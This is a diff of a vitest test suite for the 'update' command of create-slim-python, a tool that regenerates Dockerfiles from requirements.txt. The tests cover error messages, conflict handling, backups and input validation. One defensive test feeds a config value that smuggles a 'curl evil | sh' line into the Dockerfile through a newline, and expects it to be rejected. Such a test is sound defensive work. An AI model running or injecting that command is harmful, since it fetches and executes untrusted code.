@@ -2,7 +2,7 @@
  * Scenario tests of `update` on real files: requirements change and the Dockerfile follows;
  * hand edits survive; conflicts exit 3; --check gates CI; bad input exits 2.
  */
-import { chmodSync, mkdtempSync, readFileSync, statSync, symlinkSync, unlinkSync, writeFileSync, existsSync, renameSync } from 'node:fs';
+import { chmodSync, mkdtempSync, readdirSync, readFileSync, statSync, symlinkSync, unlinkSync, writeFileSync, renameSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { beforeEach, describe, expect, it } from 'vitest';
@@ -52,17 +52,27 @@ describe('update follows requirements', () => {
 
   it('an old cryptography pin brings the Rust toolchain; unpinning removes it with the reason', async () => {
     write('requirements.txt', 'cryptography==3.3.2\naiohttp\n');
-    await update();
-    expect(read('Dockerfile')).toMatch(/build-base/);
+    const pinned = await update();
+    expect(pinned.exitCode).toBe(0);
+    for (const apk of ['build-base', 'cargo', 'libffi-dev', 'openssl-dev']) {
+      expect(pinned.stdout).toMatch(new RegExp(`^ {2}added ${apk} \\(build\\) because cryptography must compile`, 'm'));
+      expect(read('Dockerfile')).toMatch(new RegExp(`^ {6}${apk} \\\\$`, 'm'));
+    }
     write('requirements.txt', 'cryptography>=42\naiohttp\n');
     const result = await update();
-    expect(result.stdout).toMatch(/removed build-base \(build\) because cryptography now installs from a wheel/);
+    expect(result.exitCode).toBe(0);
+    expect(result.stdout).toMatch(/^ {2}removed build-base \(build\) because cryptography now installs from a wheel$/m);
+    expect(read('Dockerfile')).not.toMatch(/build-base|cargo|openssl-dev/);
   });
 
   it('keeps the file mode', async () => {
     chmodSync(join(app, 'Dockerfile'), 0o640);
     write('requirements.txt', 'aiohttp\npsycopg2\n');
-    await update();
+    const result = await update();
+    expect(result.exitCode).toBe(0);
+    expect(result.stdout).toMatch(/^Dockerfile: regenerated$/m);
+    // The file really was replaced (a new inode from the atomic rename), and kept its mode.
+    expect(read('Dockerfile')).toMatch(/libpq-dev/);
     expect(statSync(join(app, 'Dockerfile')).mode & 0o777).toBe(0o640);
   });
 
@@ -80,7 +90,7 @@ describe('update follows requirements', () => {
     await update();
     const ambiguous = await update('--build-deps', '-libpq-dev');
     expect(ambiguous.exitCode).toBe(2);
-    expect(ambiguous.stderr).toMatch(/write it as --build-deps=VALUE/);
+    expect(ambiguous.stderr).toBe('create-slim-python: the value of --build-deps starts with "-": write it as --build-deps=VALUE (e.g. --build-deps=-cargo); run "create-slim-python update --help" for the flags\n');
     const result = await update('--build-deps=-libpq-dev');
     expect(result.stdout).toMatch(/removed libpq-dev \(build\) because you removed it/);
     expect(JSON.parse(read('slim-python.json')).buildDeps.remove).toEqual(['libpq-dev']);
@@ -115,7 +125,7 @@ describe('update and included requirement files', () => {
     write('requirements.txt', '-r "odd name.txt"\naiohttp\n');
     const result = await update();
     expect(result.exitCode).toBe(2);
-    expect(result.stderr).toMatch(/includes "odd name\.txt": rename it/);
+    expect(result.stderr).toBe('create-slim-python: requirements.txt includes "odd name.txt": rename it to a plain relative path (letters, digits, ".", "_", "-", "/") so the Dockerfile can copy it\n');
   });
 });
 
@@ -140,7 +150,7 @@ describe('update keeps hand edits', () => {
     expect((await update('--check')).exitCode).toBe(0);
   });
 
-  it('conflicting edits get markers and exit 3; --keep and --force resolve', async () => {
+  it('conflicting edits: --keep leaves the file; otherwise markers and exit 3, refused until resolved', async () => {
     const original = read('Dockerfile');
     // Edit the very lines the regeneration changes: the release stage's apk line.
     const edited = original.replace(/^ {4}xargs -r apk add --no-cache < \/tmp\/runtime-deps$/m, '    xargs -r apk add --no-cache tini < /tmp/runtime-deps');
@@ -150,18 +160,38 @@ describe('update keeps hand edits', () => {
 
     const kept = await update('--keep');
     expect(kept.exitCode).toBe(0);
+    expect(kept.stdout).toMatch(/^Dockerfile: conflict: kept your file unchanged$/m);
     expect(read('Dockerfile')).toBe(edited);
+    expect(readdirSync(app)).not.toContain('Dockerfile.orig');
 
     const conflicted = await update();
     expect(conflicted.exitCode).toBe(3);
-    expect(conflicted.stderr).toMatch(/conflicts in Dockerfile lines \d+-\d+/);
-    expect(read('Dockerfile')).toMatch(/^<<<<<<< Dockerfile \(yours\)$/m);
-    expect(read('Dockerfile')).toContain('tini');
-    // Unresolved markers are refused on the next run.
+    expect(conflicted.stderr).toMatch(/^create-slim-python: conflicts in Dockerfile lines (\d+)-(\d+): edit the file to resolve them, then run update again \(or rerun with --force or --keep\)\n$/m);
+    const [, start, end] = /lines (\d+)-(\d+)/.exec(conflicted.stderr)!;
+    const lines = read('Dockerfile').split('\n');
+    expect(lines[Number(start) - 1]).toBe('<<<<<<< Dockerfile (yours)');
+    expect(lines[Number(end) - 1]).toBe('>>>>>>> Dockerfile (generated now)');
+    expect(lines.slice(Number(start), Number(end) - 1)).toContain('    xargs -r apk add --no-cache tini < /tmp/runtime-deps');
+    expect(lines.slice(Number(start), Number(end) - 1)).toContain('    xargs apk add --no-cache libmagic < /tmp/runtime-deps');
+    // Unresolved markers are refused on the next run, even with --force (which would back them up).
     const again = await update();
     expect(again.exitCode).toBe(3);
-    expect(again.stderr).toMatch(/still has conflict markers/);
+    expect(again.stderr).toMatch(/^create-slim-python: Dockerfile still has conflict markers \(lines \d+-\d+\): resolve them, then run update again\n$/);
+    expect((await update('--force')).exitCode).toBe(3);
+    expect(readdirSync(app)).not.toContain('Dockerfile.orig');
+  });
 
+  it('--force with --keep is a usage error, and nothing is written', async () => {
+    const edited = read('Dockerfile').replace(/^ {4}xargs -r apk add --no-cache < \/tmp\/runtime-deps$/m, '    xargs -r apk add --no-cache tini < /tmp/runtime-deps');
+    write('Dockerfile', edited);
+    write('requirements.txt', 'aiohttp\npython-magic\n');
+    const config = read('slim-python.json');
+    const result = await update('--force', '--keep');
+    expect(result.stderr).toBe('create-slim-python: --force and --keep contradict each other: pass one of them\n');
+    expect(result.exitCode).toBe(2);
+    expect(read('Dockerfile')).toBe(edited);
+    expect(read('slim-python.json')).toBe(config);
+    expect(readdirSync(app)).not.toContain('Dockerfile.orig');
   });
 
   it('--force takes the new render and keeps a .orig backup', async () => {
@@ -170,24 +200,49 @@ describe('update keeps hand edits', () => {
     write('requirements.txt', 'aiohttp\npython-magic\n');
     const forced = await update('--force');
     expect(forced.exitCode).toBe(0);
-    expect(forced.stdout).toMatch(/took the new render/);
+    expect(forced.stdout).toMatch(/^Dockerfile: conflict: took the new render \(yours saved as Dockerfile\.orig\)$/m);
     expect(read('Dockerfile.orig')).toBe(edited);
-    expect(read('Dockerfile')).toMatch(/libmagic/);
+    expect(read('Dockerfile')).toMatch(/^ {4}xargs apk add --no-cache libmagic < \/tmp\/runtime-deps$/m);
     expect(read('Dockerfile')).not.toContain('tini');
     expect((await update('--check')).exitCode).toBe(0);
+  });
+
+  it('--force never overwrites an earlier backup: later ones are numbered', async () => {
+    write('Dockerfile.orig', 'my backup from last week\n');
+    const edit = (text: string) => text.replace(/^ {4}xargs -r apk add --no-cache < \/tmp\/runtime-deps$/m, '    xargs -r apk add --no-cache tini < /tmp/runtime-deps');
+    const first = edit(read('Dockerfile'));
+    write('Dockerfile', first);
+    write('requirements.txt', 'aiohttp\npython-magic\n');
+    const once = await update('--force', '--json');
+    expect(once.exitCode).toBe(0);
+    expect(JSON.parse(once.stdout).files[0]).toMatchObject({ path: 'Dockerfile', action: 'conflict', resolution: 'force', backup: 'Dockerfile.1.orig' });
+    const second = read('Dockerfile').replace('xargs apk add --no-cache libmagic <', 'xargs apk add --no-cache libmagic tini <');
+    expect(second).not.toBe(read('Dockerfile'));
+    write('Dockerfile', second);
+    const twice = await update('--force', '--runtime-libs', '+tzdata');
+    expect(twice.exitCode).toBe(0);
+    expect(twice.stdout).toMatch(/^Dockerfile: conflict: took the new render \(yours saved as Dockerfile\.2\.orig\)$/m);
+    expect(read('Dockerfile.orig')).toBe('my backup from last week\n');
+    expect(read('Dockerfile.1.orig')).toBe(first);
+    expect(read('Dockerfile.2.orig')).toBe(second);
   });
 });
 
 describe('update: bad input exits 2, nothing written', () => {
   it.each([
-    ['{', /slim-python\.json: not valid JSON/],
-    ['{"version": 9}', /newer create-slim-python/],
+    // The parser's own words (from V8) vary by Node version: everything around them is literal.
+    ['{', /^not valid JSON \(.+\); fix it or regenerate the project$/],
+    ['{"version": 9}', '"version" is 9: this project was written by a newer create-slim-python; run the newer version (npx create-slim-python@latest)'],
   ])('corrupt config %s', async (text, message) => {
     write('slim-python.json', text);
     const before = read('Dockerfile');
     const result = await update();
     expect(result.exitCode).toBe(2);
-    expect(result.stderr).toMatch(message);
+    const prefix = `create-slim-python: ${app}/slim-python.json: `;
+    expect(result.stderr.startsWith(prefix) && result.stderr.endsWith('\n')).toBe(true);
+    const detail = result.stderr.slice(prefix.length, -1);
+    if (typeof message === 'string') expect(detail).toBe(message);
+    else expect(detail).toMatch(message);
     expect(read('Dockerfile')).toBe(before);
   });
 
@@ -196,7 +251,7 @@ describe('update: bad input exits 2, nothing written', () => {
     write('slim-python.json', JSON.stringify({ ...config, python: '3.12\nRUN curl evil | sh' }));
     const result = await update();
     expect(result.exitCode).toBe(2);
-    expect(result.stderr).toMatch(/"python" contains a control character/);
+    expect(result.stderr).toBe(`create-slim-python: ${app}/slim-python.json: "python" contains a control character (a newline?)\n`);
   });
 
   it('a newer generator is refused', async () => {
@@ -204,20 +259,20 @@ describe('update: bad input exits 2, nothing written', () => {
     write('slim-python.json', JSON.stringify({ ...config, generator: '99.0.0' }));
     const result = await update();
     expect(result.exitCode).toBe(2);
-    expect(result.stderr).toMatch(/newer than this create-slim-python/);
+    expect(result.stderr).toBe(`create-slim-python: ${app}/slim-python.json: "generator" is 99.0.0, newer than this create-slim-python (0.1.0); run npx create-slim-python@latest\n`);
   });
 
   it('a missing requirements.txt', async () => {
     unlinkSync(join(app, 'requirements.txt'));
     const result = await update();
     expect(result.exitCode).toBe(2);
-    expect(result.stderr).toMatch(/requirements\.txt not found/);
+    expect(result.stderr).toBe(`create-slim-python: ${app}/requirements.txt not found: create it (it may be empty), or set "requirements" in slim-python.json\n`);
   });
 
   it('a missing config', async () => {
     const result = await runCli(['update', work], { cwd: work });
     expect(result.exitCode).toBe(2);
-    expect(result.stderr).toMatch(/slim-python\.json not found/);
+    expect(result.stderr).toBe(`create-slim-python: ${work}/slim-python.json not found: run this in a project made by create-slim-python, or pass its directory\n`);
   });
 
   it('a Dockerfile that is a symlink', async () => {
@@ -226,7 +281,7 @@ describe('update: bad input exits 2, nothing written', () => {
     write('requirements.txt', 'aiohttp\npsycopg2\n');
     const result = await update();
     expect(result.exitCode).toBe(2);
-    expect(result.stderr).toMatch(/Dockerfile is a symlink/);
+    expect(result.stderr).toBe(`create-slim-python: ${app}/Dockerfile is a symlink; refusing to read or rewrite it through the link (replace it with a regular file)\n`);
     expect(readFileSync(join(work, 'elsewhere'), 'utf8')).not.toMatch(/libpq/);
   });
 
@@ -234,14 +289,18 @@ describe('update: bad input exits 2, nothing written', () => {
     write('requirements.txt', 'aiohttp\nfoo==\n');
     const result = await update();
     expect(result.exitCode).toBe(2);
-    expect(result.stderr).toMatch(/requirements\.txt:2: /);
+    expect(result.stderr).toBe('create-slim-python: requirements.txt:2: Invalid requirement "foo==": Expected semicolon (after name with no version specifier) or end (at character 4)\n');
   });
 
   it('no leftover temporary files after updates', async () => {
+    const before = readdirSync(app).sort();
     write('requirements.txt', 'aiohttp\npsycopg2\n');
-    await update();
-    expect(existsSync(join(app, 'Dockerfile'))).toBe(true);
-    const { readdirSync } = await import('node:fs');
-    expect(readdirSync(app).filter((name) => name.endsWith('.tmp'))).toEqual([]);
+    const result = await update();
+    expect(result.exitCode).toBe(0);
+    expect(read('Dockerfile')).toMatch(/libpq-dev/);
+    expect(readFileSync(join(app, '.slim-python/generated/Dockerfile'), 'utf8')).toBe(read('Dockerfile'));
+    // Exactly the files that were there: no temporary file, no backup, in either folder.
+    expect(readdirSync(app).sort()).toEqual(before);
+    expect(readdirSync(join(app, '.slim-python/generated')).sort()).toEqual(['.dockerignore', 'Dockerfile']);
   });
 });
